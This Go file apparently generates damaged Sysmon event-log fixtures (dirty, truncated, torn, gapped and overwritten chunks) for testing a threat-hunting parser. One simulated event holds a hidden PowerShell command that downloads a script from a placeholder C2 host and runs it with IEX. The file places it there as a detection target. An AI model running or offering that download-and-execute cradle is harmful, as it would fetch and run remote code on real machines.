package main

import (
	"bytes"

	"hunt/evtx/evtxtest"
)

// Each case here is scenario 1 on a machine of its own, with the Sysmon log
// alone, damaged in one way. What was planted is still to be found.

const slot = 65536

// damagedCase is such a case: its directory, what it is about, its machine, the last part of its user's
// SID, and how its log is laid out and damaged.
type damagedCase struct {
	dir, about     string
	name, user, ip string
	rid            int
	shape          func(l *evtxtest.Log, events []*event) damage
}

func (c damagedCase) write(t *tree) error {
	p := t.plan("damaged/"+c.dir, c.about)
	p.channels = []string{chSysmon}
	v, _ := linkVictim(c.name, c.user, c.ip, c.rid)
	if err := p.write(c.shape, v.host); err != nil {
		return err
	}
	v.expect(p)
	p.done()
	return nil
}

// twoChunks starts the second chunk half-way.
func twoChunks(l *evtxtest.Log, events []*event) {
	for i, e := range events {
		if i == len(events)/2 {
			l.Break()
		}
		l.Add(e.Event)
	}
}

func dirty(t *tree) error {
	return damagedCase{dir: "dirty",
		about: "A live copy of a log that its service had open: the dirty flag is set, the header's chunk count " +
			"and next record id are old. Every record is whole.",
		name: "WS-FIN-31", user: "y.tanaka", ip: "10.20.7.71", rid: 1151,
		shape: func(l *evtxtest.Log, events []*event) damage {
			twoChunks(l, events)
			return damage{kinds: []string{"dirty"}, after: func(file []byte, placed []evtxtest.Placed) []byte {
				evtxtest.Dirty(file, 1, placed[12].HeaderID)
				return file
			}}
		}}.write(t)
}

func badChecksum(t *tree) error {
	return damagedCase{dir: "bad-chunk-crc",
		about: "The checksum of the first chunk's records does not hold; the records decode.",
		name:  "WS-FIN-32", user: "f.dubois", ip: "10.20.7.72", rid: 1152,
		shape: func(*evtxtest.Log, []*event) damage {
			return damage{kinds: []string{"chunk-crc"}, after: func(file []byte, _ []evtxtest.Placed) []byte {
				evtxtest.BreakRecordsCRC(file, 0)
				return file
			}}
		}}.write(t)
}

func tornTail(t *tree) error {
	return damagedCase{dir: "torn-tail",
		about: "The machine lost power while the last record was written: its header is there, its body is zero. " +
			"The log is dirty.",
		name: "WS-FIN-33", user: "g.rossi", ip: "10.20.7.73", rid: 1153,
		shape: func(*evtxtest.Log, []*event) damage {
			return damage{lost: 1, kinds: []string{"dirty", "torn-record"},
				after: func(file []byte, placed []evtxtest.Placed) []byte {
					last := placed[len(placed)-1]
					evtxtest.Tear(file, last)
					evtxtest.Dirty(file, last.Chunk+1, last.HeaderID)
					return file
				}}
		}}.write(t)
}

func truncated(t *tree) error {
	return damagedCase{dir: "truncated",
		about: "The copy stops inside the last chunk, in the middle of its last record but one.",
		name:  "WS-FIN-34", user: "o.lund", ip: "10.20.7.74", rid: 1154,
		shape: func(l *evtxtest.Log, events []*event) damage {
			twoChunks(l, events)
			return damage{lost: 2, kinds: []string{"truncated"},
				after: func(file []byte, placed []evtxtest.Placed) []byte {
					cut := placed[len(placed)-2]
					return file[:cut.Offset+int64(cut.Size)/2]
				}}
		}}.write(t)
}

func gaps(t *tree) error {
	return damagedCase{dir: "gaps",
		about: "Rubbish of 96 bytes stands between two records of the first chunk, and a slot that was never " +
			"written between the chunks.",
		name: "WS-FIN-35", user: "n.bakker", ip: "10.20.7.75", rid: 1155,
		shape: func(l *evtxtest.Log, events []*event) damage {
			for i, e := range events {
				l.Add(e.Event)
				if i == 8 {
					l.AddGarbage(bytes.Repeat([]byte("\xfe\xed\xfa\xce"), 24))
				}
				if i == 30 {
					l.AddChunk(make([]byte, slot))
				}
			}
			return damage{kinds: []string{"gap", "empty-chunk"}}
		}}.write(t)
}

// reused is a chunk that the log wrote over: the older records, with an earlier
// run of scenario 1, follow the live ones. They are not live, and no rule may
// see them unless asked to.
func reused(t *tree) error {
	p := t.plan("damaged/reused-chunk", "A circular log wrote over its first chunk: behind the live records stand "+
		"older ones, among them a hidden PowerShell of the day before. Carving finds them; they are no findings "+
		"by themselves.")
	m, shell := workstation("WS-FIN-36", "w.kim", "10.20.7.76", 1156, day(8, 20, 0))
	chrome := m.browser(shell, chromeEx, "", day(8, 11, 12))
	m.visit(chrome, day(8, 12, 0), "intranet.corp.example", "10.20.0.15")

	// The day before, on the same machine.
	old := newHost("WS-FIN-36", "w.kim", "10.20.7.76", 1156, day(7, 52, 11).AddDate(0, 0, -1))
	before := old.start(day(8, 2, 0).AddDate(0, 0, -1))
	b := old.browser(before, chromeEx, "", day(8, 9, 0).AddDate(0, 0, -1))
	at := day(8, 14, 0).AddDate(0, 0, -1)
	ps := old.run(b, prog("powershell.exe"),
		psArgs+`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Host+`/a/s.ps1')"`, old.user, at)
	old.visit(ps.process, at.Add(2000000000), c2Host, c2IP)
	old.create(ps.process, at.Add(4000000000), old.user.temp()+"link_cache.dll")
	old.layOut()
	var previous evtxtest.Log
	for _, e := range old.channel(chSysmon) {
		e.RecordID -= 5_000
		previous.Add(e.Event)
	}
	was, err := previous.Bytes()
	if err != nil {
		return err
	}
	p.channels = []string{chSysmon}
	err = p.write(func(l *evtxtest.Log, events []*event) damage {
		live := events[:14] // few enough to leave much of the old chunk
		l.Reuse(evtxtest.Chunk(was, 0))
		for _, e := range live {
			l.Add(e.Event)
		}
		end := l.Placed()[len(live)-1]
		// What follows the live records and is whole. Its templates were defined
		// further up, where the live records are now, except those first used below.
		return damage{lost: len(events) - len(live), carved: countBehind(previous.Placed(),
			end.Offset+int64(end.Size))}
	}, m)
	if err != nil {
		return err
	}
	p.done()
	return nil
}

// countBehind counts the records of the first chunk that start at or behind an offset.
func countBehind(placed []evtxtest.Placed, from int64) int {
	n := 0
	for _, p := range placed {
		if p.Chunk == 0 && p.Offset >= from {
			n++
		}
	}
	return n
}
